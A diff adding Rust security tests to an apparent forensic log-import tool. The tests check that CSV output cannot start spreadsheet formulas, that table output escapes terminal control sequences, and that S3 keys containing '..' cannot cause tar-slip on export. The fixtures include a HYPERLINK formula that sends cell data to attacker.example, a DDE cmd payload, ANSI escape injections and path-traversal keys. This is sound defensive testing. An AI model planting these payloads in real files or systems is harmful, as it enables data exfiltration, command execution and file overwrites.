@@ -776,3 +776,212 @@ fn host_logs_of_a_triage_bundle_join_the_timeline() {
     let sudo = home.json(&["timeline", "hostcase", "action:sudo", "curl"]);
     assert_eq!(sudo["total"], 1);
 }
+
+/// A sign-in export whose values a hostile user chose, imported into case c1.
+fn hostile_signins(home: &Home, upn: &str, user_agent: &str, app: &str) {
+    let signin = serde_json::json!({"value": [{
+        "id": "s-1",
+        "createdDateTime": "2021-06-02T09:12:33Z",
+        "userPrincipalName": upn,
+        "userAgent": user_agent,
+        "ipAddress": "203.0.113.10",
+        "appDisplayName": app,
+        "status": {"errorCode": 0},
+    }]});
+    let file = home.path().join("signins.json");
+    std::fs::write(&file, signin.to_string()).unwrap();
+    let out = home.run(&[
+        "logs",
+        "import",
+        "--format",
+        "entra-signin",
+        "--case",
+        "c1",
+        file.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+}
+
+#[test]
+fn t1_timeline_csv_cells_cannot_start_a_formula() {
+    let home = Home::new();
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")";
+    let dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    hostile_signins(&home, dde, formula, "+Office 365 Exchange Online");
+    let rows = |extra: &[&str]| -> Vec<Vec<String>> {
+        let mut args = vec!["timeline", "c1", "--format", "csv"];
+        args.extend_from_slice(extra);
+        let out = home.run(&args);
+        assert!(out.status.success(), "{}", stderr(&out));
+        csv::Reader::from_reader(&out.stdout[..])
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    };
+    let neutral = rows(&[]);
+    assert_eq!(neutral.len(), 1);
+    for cell in &neutral[0] {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    assert!(neutral[0].contains(&format!("'{formula}")), "{neutral:?}");
+    assert!(neutral[0].contains(&format!("'{dde}")), "{neutral:?}");
+    // --raw-csv: the values exactly as recorded.
+    let raw = rows(&["--raw-csv"]);
+    assert!(raw[0].iter().any(|c| c == formula), "{raw:?}");
+    assert!(raw[0].iter().any(|c| c == dde), "{raw:?}");
+}
+
+#[test]
+fn t2_table_output_escapes_control_characters_and_json_keeps_them() {
+    let home = Home::new();
+    let upn = "alice@contoso.com\u{1b}[2K\u{1b}[1A\u{1b}]0;owned\u{7}";
+    hostile_signins(&home, upn, "ua\u{9b}31m", "Exchange\u{1b}[8m hidden");
+    for args in [
+        &["timeline", "c1", "--facets", "actor"][..],
+        &["pivot", "c1", "--ip", "203.0.113.10"],
+        &["pivot", "c1", "--account", upn],
+        &["findings", "c1"],
+    ] {
+        let out = home.run(args);
+        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "{args:?} sent control characters to the terminal: {text:?}"
+        );
+        if args[0] != "findings" {
+            assert!(
+                text.contains(r"alice@contoso.com\u{1b}[2K"),
+                "{args:?}: {text}"
+            );
+        }
+    }
+    // JSON is for programs: the value exactly as recorded (serde escapes it).
+    let j = home.json(&["timeline", "c1"]);
+    assert_eq!(j["rows"][0]["actor"], upn);
+}
+
+/// Every member of a tar as (path bytes, content).
+fn tar_members(path: &Path) -> Vec<(Vec<u8>, Vec<u8>)> {
+    let mut tar = tar::Archive::new(std::fs::File::open(path).unwrap());
+    tar.entries()
+        .unwrap()
+        .map(|e| {
+            let mut e = e.unwrap();
+            let name = e.path_bytes().into_owned();
+            let mut b = Vec::new();
+            std::io::Read::read_to_end(&mut e, &mut b).unwrap();
+            (name, b)
+        })
+        .collect()
+}
+
+#[test]
+fn p2_an_s3_key_with_dot_dot_is_stored_under_a_safe_name_and_the_rest_collected() {
+    let Some(endpoint) = emulator("CUSTODY_TEST_S3_ENDPOINT") else {
+        return;
+    };
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let s3 = s3_client(&endpoint);
+    let bucket = unique("trail");
+    let day = "AWSLogs/111122223333/CloudTrail/us-east-1/2021/06/01/";
+    let good = format!("{day}111122223333_CloudTrail_us-east-1_20210601T0800Z_good.json.gz");
+    let record = trail_file(&[trail_record(
+        1,
+        "2021-06-01T08:00:00Z",
+        "CreateUser",
+        "203.0.113.10",
+    )]);
+    // Legal S3 keys an attacker who can write to the bucket can plant: a
+    // `..` segment (tar-rs refused it and the whole collection failed), a
+    // doubled `/`, and a `..` past byte 100 (a GNU long name: tar-slip).
+    let odd = [
+        format!("{day}../x.json"),
+        format!("{day}/y.json"),
+        format!(
+            "{day}{}/../../../../../../../../../tmp/slip.json",
+            "a".repeat(100)
+        ),
+    ];
+    rt.block_on(async {
+        s3.create_bucket().bucket(&bucket).send().await.unwrap();
+        put(&s3, &bucket, &good, gz(&record)).await;
+        for k in &odd {
+            put(&s3, &bucket, k, b"{}".to_vec()).await;
+        }
+    });
+    let home = Home::new();
+    let out = custody_aws(
+        &home,
+        &endpoint,
+        &[
+            "--json",
+            "logs",
+            "cloudtrail",
+            "--bucket",
+            &bucket,
+            "--account",
+            "111122223333",
+            "--region",
+            "us-east-1",
+            "--since",
+            "2021-06-01",
+            "--until",
+            "2021-06-01T23:59:59Z",
+            "--case",
+            "p2",
+        ],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let a = &r["artefacts"][0];
+    assert_eq!(r["timeline"][0]["events"], 1, "{r:#}");
+    let notes = a["notes"].to_string();
+    assert!(notes.contains("not a safe path"), "{notes}");
+    let bundle = home.path().join("bundle.tar");
+    let exp = home.run(&[
+        "export",
+        "p2",
+        a["id"].as_str().unwrap(),
+        "--output",
+        bundle.to_str().unwrap(),
+    ]);
+    assert!(exp.status.success(), "{}", stderr(&exp));
+    let members = tar_members(&bundle);
+    // No member a naive extractor would place outside its directory.
+    for (name, _) in &members {
+        assert!(!name.starts_with(b"/"), "{}", name.escape_ascii());
+        for seg in name.split(|&b| b == b'/') {
+            assert!(
+                !seg.is_empty() && seg != b".." && seg != b".",
+                "{}",
+                name.escape_ascii()
+            );
+        }
+    }
+    let content = |m: &str| {
+        members
+            .iter()
+            .find(|(n, _)| n == m.as_bytes())
+            .map(|(_, b)| b.clone())
+            .unwrap_or_else(|| panic!("{m} not in the bundle"))
+    };
+    assert_eq!(content(&good), gz(&record));
+    assert_eq!(content(&format!("{day}%2E%2E/x.json")), b"{}");
+    let index: Value = serde_json::from_slice(&content("index.json")).unwrap();
+    let objects = index["objects"].as_array().unwrap();
+    assert_eq!(objects.len(), 4, "{index:#}");
+    for k in &odd {
+        let o = objects
+            .iter()
+            .find(|o| o["key"] == k.as_str())
+            .unwrap_or_else(|| panic!("{k} not in {index:#}"));
+        let m = o["member"].as_str().unwrap();
+        assert_ne!(m, k);
+        assert_eq!(content(m), b"{}");
+        assert_eq!(custody::collect::member::raw_name(m), k.as_bytes());
+    }
+}
